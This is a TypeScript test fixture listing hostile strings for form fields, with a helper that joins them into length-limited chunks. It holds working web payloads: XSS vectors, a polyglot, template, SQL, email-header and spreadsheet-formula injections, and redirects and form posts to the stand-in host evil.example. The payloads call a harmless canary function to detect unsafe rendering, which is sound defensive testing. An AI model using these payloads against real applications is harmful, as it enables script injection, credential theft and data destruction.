/**
 * Hostile texts for fields such as names and greetings. Scripts in them call `canary`; elements have `data-canary`, so that
 * they are found even if they cannot run.
 */
export const hostileTexts = [
  '<script data-canary>canary(1)</script>',
  '<img data-canary src=x onerror=canary(2)>',
  '"><svg data-canary onload=canary(3)>',
  "'><details data-canary open ontoggle=canary(4)>",
  '<iframe data-canary srcdoc="<script>parent.canary(5)</script>"></iframe>',
  '<a data-canary href="javascript:canary(6)">here</a>',
  'javascript:canary(7)',
  'JaVa&Tab;ScRiPt&colon;canary(8)',
  'data:text/html,<script>opener.canary(9)</script>',
  '<math><mtext><table><mglyph><style><!--</style><img data-canary title="--&gt;&lt;img src=1 onerror=canary(10)&gt;">',
  '<svg><style><img data-canary src=x onerror=canary(11)></style></svg>',
  '<noscript><p title="</noscript><img data-canary src=x onerror=canary(12)>">',
  '</script><script data-canary>canary(13)</script><script type="application/json">',
  '</title></textarea></style></template><script data-canary>canary(14)</script>',
  '<!--<script>canary(15)//--></script>',
  ']]><script data-canary>canary(16)</script>',
  '<base data-canary href="//evil.example/">',
  '<meta data-canary http-equiv="refresh" content="0;url=//evil.example">',
  '<link data-canary rel="stylesheet" href="//evil.example/x.css">',
  '<form data-canary action="//evil.example"><input name=password>',
  '<style data-canary>*{background:url(//evil.example/x)}</style>',
  'x:expression(canary(17));behavior:url(//evil.example)',
  `{{constructor.constructor('canary(18)')()}}`,
  '${canary(19)} #{canary(20)} <%= canary(21) %> *{canary(22)} @(canary(23))',
  "{x} {name} {count, plural, one {# man} other {# men}} '{' '' {{}} }{",
  '<0>bold</0> %s %n %1$s',
  '&lt;img data-canary src=x onerror=canary(24)&gt; &#x3c;b&#x3e; &amp;amp; &nbsp;',
  "$& $' $` $1 $$ $<name>",
  'one\u2028canary(25)\u2029two',
  String.raw`\u003cscript data-canary>canary(26)\u003c/script> \x3cb> \0 \\`,
  '__proto__ constructor toString null undefined NaN',
  '=HYPERLINK("http://evil.example","x") @SUM(1+1)*cmd|"/C calc"!A0',
  'greetings\nBcc: thief@example.com\nContent-Type: text/html',
  '\' or 1=1 -- " ; drop table account; --',
  '\u202eturned around \u2066 and left open \u2067',
  'z\u0335\u0321\u0348a\u0337\u030al\u0336g\u0300o \u200b\u200d\u2060\u00ad\ufeff|',
  'https://evil.example/"onmouseover="canary(27)" x',
  'https://evil.example/<script>canary(28)</script>',
  'https://evil.example/javascript:canary(29) http://user:canary@evil.example',
  'ﷺ 𒐫 🏳️‍🌈 👨‍👨‍👦 \u{e0041}',
]

/** A polyglot that closes any surrounding context. */
export const polyglot =
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=canary(30) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/data-canary/oNloAd=canary(31)//>'

/** All hostile texts, joined into as few texts as possible of at most `longest` characters. */
export function hostileLetters(longest: number): string[] {
  const letters: string[] = []
  for (const text of [...hostileTexts, polyglot]) {
    const last = letters.at(-1)
    if (last !== undefined && last.length + text.length < longest) letters[letters.length - 1] = `${last}\n${text}`
    else letters.push(text)
  }
  return letters
}
